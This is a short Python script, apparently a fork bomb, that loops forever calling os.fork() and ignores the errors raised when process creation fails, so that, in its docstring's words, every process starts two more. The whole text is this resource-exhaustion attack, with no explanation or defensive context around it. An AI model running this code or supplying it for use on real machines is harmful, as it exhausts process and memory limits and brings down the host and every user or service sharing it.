"""Every process starts two more."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
